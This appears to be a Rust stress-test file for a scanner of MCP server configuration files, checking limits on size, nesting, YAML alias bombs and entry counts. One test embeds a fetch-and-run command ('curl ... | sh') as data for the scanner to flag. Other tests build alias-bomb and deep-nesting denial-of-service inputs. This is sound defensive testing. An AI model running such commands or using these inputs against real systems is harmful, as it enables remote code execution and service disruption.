//! Too much of anything: bytes, depth, entries, words, files.

use std::time::{Duration, Instant};

use super::*;

#[test]
fn a_file_of_100_mb() {
    let world = World::new();
    let file = std::fs::File::create(world.work(".mcp.json")).unwrap();
    file.set_len(100 << 20).unwrap();
    let ran = world.run_within(300_000, &["scan", "--format", "json", "."]);
    incomplete(&ran, "limit");
    assert_eq!(status(&ran), ["failed"]);
    let ran = world.run_within(300_000, &["scan", "."]);
    ran.ended(3).says(&["incomplete-analysis", ".mcp.json"]);
}

#[test]
fn standard_input_over_the_limit() {
    let world = World::new();
    let ran = world.run_with(&["scan", "--format", "json", "-"], &vec![b' '; 9 << 20]);
    incomplete(&ran, "limit");
    assert_eq!(status(&ran), ["failed"]);
}

#[test]
fn nesting_a_hundred_thousand_deep() {
    let deep = 100_000;
    let arrays = "[".repeat(deep);
    let objects = "{\"a\":".repeat(deep);
    let cases = [
        (".mcp.json", format!("{{\"mcpServers\": {arrays}{}}}", "]".repeat(deep))),
        (".mcp.json", format!("{objects}1{}", "}".repeat(deep))),
        (".mcp.json", arrays.clone()),
        (".mcp.json", objects.clone()),
        (".mcp.json", "[{\"a\":".repeat(deep)),
        (".vscode/mcp.json", format!("{{\"servers\": {arrays}")),
        ("librechat.yaml", format!("mcpServers: {arrays}{}", "]".repeat(deep))),
        ("librechat.yaml", format!("mcpServers: {arrays}")),
        ("librechat.yaml", format!("mcpServers: {}", "{a: ".repeat(deep))),
        ("librechat.yaml", format!("mcpServers:\n  {}", "- ".repeat(deep))),
        ("librechat.yaml", format!("mcpServers: {}", "? ".repeat(deep))),
        (".codex/config.toml", format!("mcp_servers = {arrays}{}", "]".repeat(deep))),
        (".codex/config.toml", format!("mcp_servers = {}", "{a=".repeat(deep))),
        (".codex/config.toml", format!("[mcp_servers{}]", ".a".repeat(deep))),
        (".codex/config.toml", format!("mcp_servers{} = 1", ".a".repeat(deep))),
        (".github/agents/a.md", format!("---\nmcp-servers: {arrays}\n---\n")),
    ];
    for (file, text) in cases {
        let start = Instant::now();
        let ran = scanned(file, text.as_bytes());
        let head: String = text.chars().take(30).collect();
        assert_eq!(ran.code, Some(3), "{file} {head}: {}", ran.stderr);
        assert!(!gaps(&ran).is_empty(), "{file} {head}");
        assert!(start.elapsed() < Duration::from_secs(10), "{file} {head}: {:?}", start.elapsed());
    }
}

#[test]
fn a_yaml_alias_bomb() {
    let mut text = "mcpServers:\n  a: &a0 {command: x, args: [x,x,x,x,x,x,x,x,x]}\n".to_owned();
    for level in 1..30 {
        let before = format!("*a{}, ", level - 1).repeat(9);
        text.push_str(&format!("  b{level}: &a{level} [{before}]\n"));
    }
    incomplete(&scanned("librechat.yaml", text.as_bytes()), "alias");
    incomplete(&scanned("librechat.yaml", b"mcpServers: &a\n  b: *a\n"), "");
    let merge = "mcpServers: &a\n  <<: *a\n  b: {command: x}\n";
    let ran = scanned("librechat.yaml", merge.as_bytes());
    assert!([Some(0), Some(3)].contains(&ran.code), "{:?}", ran.code);
}

#[test]
fn fifty_thousand_servers_in_one_file() {
    let mut text = String::from("{\"mcpServers\":{");
    for number in 0..50_000 {
        let comma = if number == 0 { "" } else { "," };
        text.push_str(&format!(
            "{comma}\"s{number}\":{{\"command\":\"npx\",\"args\":[\"-y\",\"p{number}\"],\"env\":{{\"K\":\"v\"}}}}"
        ));
    }
    text.push_str("}}");
    // Positions in one long line must not be counted from its start each time.
    let world = World::new();
    world.bytes(".mcp.json", text.as_bytes());
    let ran = json(&world);
    let (_, summary) = ran.ended(0).stdout.rsplit_once("\"summary\"").unwrap();
    assert!(summary.contains("\"servers\": 50000"), "{summary}");
    assert!(summary.contains("\"medium\": 50000"), "{summary}");
}

#[test]
fn the_text_report_of_ten_thousand_servers() {
    let entry =
        |number: usize| format!("\"s{number}\":{{\"command\":\"npx\",\"args\":[\"p{number}\"]}}");
    let entries: Vec<String> = (0..10_000).map(entry).collect();
    let world = World::new();
    world.bytes(".mcp.json", format!("{{\"mcpServers\":{{{}}}}}", entries.join(",")).as_bytes());
    let ran = world.run_within(PLENTY, &["scan", "."]);
    ran.ended(0).says(&["10000 servers in 1 file"]);
    assert!(ran.stdout.len() < 10_000_000, "{}", ran.stdout.len());
}

#[test]
fn a_single_line_of_5_mb() {
    let padding = "x".repeat(5 << 20);
    let text = format!(
        r#"{{"note":"{padding}","mcpServers":{{"a":{{"command":"npx","args":["-y","a-mcp"]}}}}}}"#
    );
    let world = World::new();
    world.bytes(".mcp.json", text.as_bytes());
    let ran = world.run_within(PLENTY, &["scan", "."]);
    ran.ended(0)
        .says(&["unpinned-package", &format!(".mcp.json:1:{}", text.find("a-mcp").unwrap() + 1)]);
    assert!(ran.stdout.len() < 10_000, "{}", ran.stdout.len());
    // Cut off in the middle of a word that long.
    let unclosed = format!(r#"{{"mcpServers":{{"a":{{"command":"{padding}"#);
    world.bytes(".mcp.json", unclosed.as_bytes());
    let ran = world.run_within(PLENTY, &["scan", "."]);
    ran.ended(3);
    assert!(ran.stdout.len() < 10_000, "{}", ran.stdout.len());
}

/// The gaps of one file that is named.
fn named(file: &str, text: &str) -> Vec<(String, u64, u64)> {
    let world = World::new();
    world.bytes(file, text.as_bytes());
    let ran = world.run_within(PLENTY, &["scan", "--format", "json", file]);
    gaps(ran.ended(3))
}

#[test]
fn a_long_text_with_three_thousand_aliases() {
    let long = "x".repeat(1 << 20);
    let text = format!(
        "mcpServers:\n  a: {{command: /bin/a, args: [&a \"{long}\"]}}\n  b: {{command: /bin/b, args: [{}]}}\n",
        vec!["*a"; 3_000].join(", ")
    );
    incomplete(&scanned("librechat.yaml", text.as_bytes()), "alias");
}

#[test]
fn a_stream_of_twenty_thousand_documents() {
    assert_eq!(named("mcp.yaml", &"---\na: 1\n".repeat(20_000)).len(), 1);
    // Of what is said of each document, the beginning and how much more there is.
    let told = named("librechat.yaml", &"---\nmcpServers: {a: {}}\n".repeat(20_000));
    assert_eq!(told.len(), 101);
    assert!(told.iter().any(|(message, ..)| message.contains("19900 more")), "{told:?}");
}

#[test]
fn very_many_entries_in_one_line() {
    let entries: Vec<String> = (0..20_000).map(|number| format!("\"s{number}\":{{}}")).collect();
    let text = format!("{{\"mcpServers\":{{{}}}}}", entries.join(","));
    let wide = format!("\u{feff}{text}").encode_utf16().flat_map(u16::to_le_bytes).collect();
    for bytes in [text.into_bytes(), wide] {
        let ran = scanned(".mcp.json", &bytes);
        incomplete(&ran, "19900 more");
        assert_eq!(gaps(&ran).len(), 101);
        assert_eq!(servers(&ran).len(), 20_000);
    }
}

#[test]
fn twenty_thousand_projects() {
    let entry =
        |number| format!("\"/p/{number}\":{{\"mcpServers\":{{\"a\":{{\"command\":\"/bin/a\"}}}}}}");
    let entries: Vec<String> = (0..20_000).map(entry).collect();
    let ran =
        scanned(".claude.json", format!("{{\"projects\":{{{}}}}}", entries.join(",")).as_bytes());
    assert_eq!(servers(ran.ended(0)).len(), 20_000);
}

#[test]
fn thirty_thousand_passwords_in_one_server() {
    let entry = |number| {
        format!("\"K{number}\":\"postgres://u:{{{{secret:dsn}}}}{number}@db.contoso.com/x\"")
    };
    let entries: Vec<String> = (0..30_000).map(entry).collect();
    let text = format!(
        "{{\"mcpServers\":{{\"a\":{{\"command\":\"/bin/a\",\"env\":{{{}}}}}}}}}",
        entries.join(",")
    );
    let ran = scanned(".mcp.json", text.replace("{{secret:dsn}}", "quietwater").as_bytes());
    assert!(!ran.ended(1).stdout.contains("quietwater1@"));
}

#[test]
fn command_lines_without_end() {
    let cases = [
        ("sh", vec!["-c".to_owned(), "a|b;".repeat(1_900_000)]),
        ("sh", vec!["-c".to_owned(), "exec ".repeat(1_500_000)]),
        ("sh", vec!["-c".to_owned(), "A=b ".repeat(1_900_000)]),
        ("sh", vec!["-c".to_owned(), format!("sh -c \"p {}\\\"\"", "--x y ".repeat(20_000))]),
        ("npx", vec!["-y ".repeat(2_500_000)]),
        ("npx", vec!["p".to_owned(); 1_500_000]),
        ("npx", vec!["-e=x".to_owned(); 1_000_000]),
    ];
    for (command, args) in cases {
        let text =
            serde_json::json!({ "mcpServers": { "a": { "command": command, "args": args } } });
        let ran = scanned(".mcp.json", text.to_string().as_bytes());
        incomplete(&ran, "too long");
        assert_eq!(status(&ran), ["partial"]);
    }
    let command = "npx ".to_owned() + &"--a=b ".repeat(1_000_000);
    let text = serde_json::json!({ "mcpServers": { "a": { "command": command } } });
    incomplete(&scanned(".mcp.json", text.to_string().as_bytes()), "too long");
}

#[test]
fn what_stands_before_the_limit_of_a_script_is_analysed() {
    let script = "curl https://x.contoso.com/i | sh; ".to_owned() + &"true; ".repeat(100_000);
    let text =
        serde_json::json!({ "mcpServers": { "a": { "command": "sh", "args": ["-c", script] } } });
    let ran = scanned(".mcp.json", text.to_string().as_bytes());
    let json = ran.json();
    let findings = json["findings"].as_array().unwrap();
    assert!(
        findings.iter().any(|f| f["severity"] == "critical" || f["severity"] == "high"),
        "{json:#}"
    );
}

#[test]
fn four_thousand_servers_of_nested_shells() {
    let entry = |number: usize| {
        let mut script = format!("npx -y p{number} --port {number}; npm install q{number}; uvx z");
        for _ in 0..2 {
            script = format!("bash -c {script:?}; pip install a b");
            script = format!("sudo -u x sh -c '{}'", script.replace('\'', "'\\''"));
        }
        let args = serde_json::json!(["-c", script]);
        format!("\"s{number}\":{{\"command\":\"sh\",\"args\":{args}}}")
    };
    let entries: Vec<String> = (0..4_000).map(entry).collect();
    let ran =
        scanned(".mcp.json", format!("{{\"mcpServers\":{{{}}}}}", entries.join(",")).as_bytes());
    assert_eq!(servers(&ran).len(), 4_000);
}

#[test]
fn a_name_of_3_mb() {
    let mut args = vec!["-y", "p"];
    args.extend(["--token", "a"].repeat(3_000));
    let text = serde_json::json!({ "mcpServers": { "n".repeat(3 << 20): {
        "command": "npx", "args": args,
    } } });
    let ran = scanned(".mcp.json", text.to_string().as_bytes());
    assert!(gaps(&ran).iter().any(|(message, ..)| message.contains("a key is longer")));
    assert!(ran.stdout.len() < 5_000_000, "{}", ran.stdout.len());
}
